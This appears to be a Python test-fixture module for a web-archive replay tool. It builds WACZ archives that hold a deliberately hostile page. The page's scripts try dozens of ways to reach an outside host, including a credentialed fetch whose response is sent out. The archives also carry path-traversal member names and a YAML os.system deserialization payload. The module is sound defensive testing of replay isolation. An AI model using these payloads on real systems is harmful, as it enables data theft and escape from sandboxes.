"""Containers of pages that nobody of us would write, made by hand."""

# ruff: noqa: E501 - markup and scripts as an attacker packs them

import gzip
import hashlib
import io
import json
import zipfile

from kept_pages import ADDRESS, AT, picture


def record(address: str, content: bytes, headers: str) -> bytes:
    """Write an answer as WARC, in a gzip member of its own."""
    http = f"HTTP/1.1 200 OK\r\n{headers}Content-Length: {len(content)}\r\n\r\n".encode() + content
    head = (
        "WARC/1.1\r\nWARC-Type: response\r\n"
        f"WARC-Record-ID: <urn:uuid:00000000-0000-4000-8000-{abs(hash(address)) % 10**12:012}>\r\n"
        f"WARC-Target-URI: {address}\r\nWARC-Date: {AT}\r\n"
        f"Content-Type: application/http; msgtype=response\r\nContent-Length: {len(http)}\r\n\r\n"
    )
    return gzip.compress(head.encode() + http + b"\r\n\r\n", mtime=0)


def container(
    answers: dict[str, tuple[bytes, str]], *, more: dict[str, bytes] | None = None, lines: int = 0
) -> bytes:
    """Write answers, by address with content and headers, and members that belong in none.

    `lines` more lines of the index lead to nothing.
    """
    warc, index = b"", []
    stamp = "".join(filter(str.isdigit, AT))
    for address, (content, headers) in answers.items():
        made = record(address, content, headers)
        kind = headers.partition("Content-Type: ")[2].partition("\r\n")[0]
        where = {"offset": str(len(warc)), "length": str(len(made)), "filename": "data.warc.gz"}
        told = {"url": address, "mime": kind, "status": "200", **where}
        index.append(f"{_surt(address)} {stamp} {json.dumps(told)}")
        warc += made
    escape = {"mime": "text/html", "status": "200", "offset": "0", "length": "99999999"}
    index += [
        f"example,dorp)/{number:08} {stamp} "
        + json.dumps({"url": f"https://dorp.example/{number}", "filename": "../../x", **escape})
        for number in range(lines)
    ]
    pages = [{"format": "json-pages-1.0", "id": "pages"}, {"url": ADDRESS, "ts": AT, "id": "p"}]
    members = {
        "archive/data.warc.gz": warc,
        "indexes/index.cdx": "\n".join(sorted(index)).encode() + b"\n",
        "pages/pages.jsonl": "\n".join(map(json.dumps, pages)).encode(),
        **(more or {}),
    }
    listed = [
        {"name": name.rpartition("/")[2], "path": name, "bytes": len(content),
         "hash": f"sha256:{hashlib.sha256(content).hexdigest()}"}
        for name, content in members.items()
    ]  # fmt: skip
    about = {"profile": "data-package", "wacz_version": "1.1.1", "resources": listed}
    made_of = io.BytesIO()
    with zipfile.ZipFile(made_of, "w", zipfile.ZIP_STORED) as pack:
        for name, content in members.items():
            pack.writestr(name, content)
        pack.writestr("datapackage.json", json.dumps(about))
    return made_of.getvalue()


def _surt(address: str) -> str:
    host, _, path = address.partition("//")[2].partition("/")
    name, _, port = host.partition(":")
    return ",".join(reversed(name.split("."))) + (f":{port}" if port else "") + f")/{path}"


def _script(where: str, app: str) -> str:
    return f"""
      document.title = 'taken'; document.documentElement.dataset.ran = 'yes';
      for (const it of [
        () => fetch('{where}/fetch'), () => navigator.sendBeacon('{where}/beacon'),
        () => new WebSocket('{where.replace("http", "ws")}/socket'), () => {{ new Image().src = '{where}/img' }},
        () => new EventSource('{where}/events'), () => window.open('{where}/open'),
        () => {{ top.location = '{where}/top' }}, () => {{ parent.parent.location = '{where}/parent' }},
        () => {{ location = '{where}/self' }}, () => top.document.body.remove(),
        () => navigator.serviceWorker.register('{ADDRESS}/sw.js'), () => caches.open('x'),
        () => fetch('{app}/ik/', {{ credentials: 'include' }}).then(a => a.text()).then(t => fetch('{where}/got?' + t)),
        () => {{ document.cookie = 'taken=yes' }}, () => localStorage.setItem('taken', 'yes'),
        () => parent.postMessage({{ msg_type: 'removeColl' }}, '*'),
      ]) {{ try {{ it(); }} catch (e) {{}} }}"""


def hostile(where: str, app: str) -> bytes:
    """Write a page that tries to get out, to `where`, and at `app`."""
    script = _script(where, app)
    links = "".join(
        f'<link rel="{rel}" href="{where}/{rel}">'
        for rel in (
            "preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "prerender",
            "stylesheet", "icon", "manifest", "alternate stylesheet",
        )
    )  # fmt: skip
    html = f"""<!doctype html><html><head><meta charset="utf-8"><title>Een gewone pagina</title>
      <base href="{where}/base/"><meta http-equiv="refresh" content="1;url={where}/refresh">
      <meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">
      {links}<script>{script}</script><script src="{where}/script.js"></script>
      <script src="{ADDRESS}/eigen.js"></script><script type="module">{script}</script>
      <script type="speculationrules">{{"prefetch":[{{"urls":["{where}/speculated"]}}]}}</script>
      <style>@import url("{where}/import.css"); @font-face {{ font-family: x; src: url({where}/font) }}
        body {{ font-family: x; background: url("{where}/background") }}</style></head>
      <body onload="{script}"><h1>Een gewone pagina</h1>
      <img src="{where}/picture" srcset="{where}/set 2x" onerror="{script}" lowsrc="{where}/low">
      <img src="x" onerror="{script}"><svg onload="{script}"><image href="{where}/svg"/><use href="{where}/use#x"/></svg>
      <iframe src="{app}/ik/"></iframe><iframe src="{app}/"></iframe><iframe src="{where}/frame"></iframe>
      <iframe src="javascript:{script}"></iframe><iframe srcdoc="<script>{script}</script><img src={where}/doc>"></iframe>
      <iframe src="data:text/html,<script>fetch('{where}/data')</script>"></iframe>
      <iframe src="//replay.localhost/replay/w/api/index"></iframe><iframe src="/replay/sw.js"></iframe>
      <object data="{where}/object"></object><embed src="{where}/embed"><applet code="{where}/applet"></applet>
      <video src="{where}/film" poster="{where}/poster" autoplay></video><audio src="{where}/sound" autoplay></audio>
      <form action="{where}/form" method="post"><input name="a" autofocus onfocus="{script}"><button id="send">x</button></form>
      <a id="out" href="{where}/link" target="_top" ping="{where}/ping">weg</a>
      <a id="blank" href="{where}/blank" target="_blank">weg</a><a id="js" href="javascript:{script}">weg</a>
      <input type="image" src="{where}/button"><table background="{where}/table"><tr><td>x</table>
      <portal src="{where}/portal"></portal><fencedframe src="{where}/fenced"></fencedframe>
      <math href="{where}/math"><mtext>x</mtext></math><marquee onstart="{script}">x</marquee></body></html>"""
    headers = (
        "Content-Type: text/html; charset=utf-8\r\n"
        f"Link: <{where}/linked>; rel=preconnect, <{where}/styled>; rel=stylesheet\r\n"
        f"Refresh: 1;url={where}/refreshed\r\nSet-Cookie: taken=yes; Path=/\r\n"
        "Content-Security-Policy: script-src * 'unsafe-inline'\r\nService-Worker-Allowed: /\r\n"
        f'Clear-Site-Data: "*"\r\nReporting-Endpoints: default="{where}/report"\r\n'
        f'NEL: {{"report_to":"default","max_age":9}}\r\nX-Frame-Options: DENY\r\n'
        f'Access-Control-Allow-Origin: *\r\nSpeculation-Rules: "{where}/rules"\r\n'
    )
    plain = "Content-Type: text/javascript\r\nService-Worker-Allowed: /\r\n"
    return container(
        {
            ADDRESS: (html.encode(), headers),
            f"{ADDRESS}/eigen.js": (script.encode(), plain),
            f"{ADDRESS}/sw.js": (script.encode(), plain),
            "https://dorp.example/../../ik/": (b"<script>top.x=1</script>", "Content-Type: text/html\r\n"),
        },
        more={
            "../../../escape.txt": b"x", "/etc/escape": b"x", "archive/../../replay/wabac.js": b"x",
            "webarchive.yaml": b"!!python/object:os.system {}", "extra.cdx": picture(1),
        },
    )  # fmt: skip
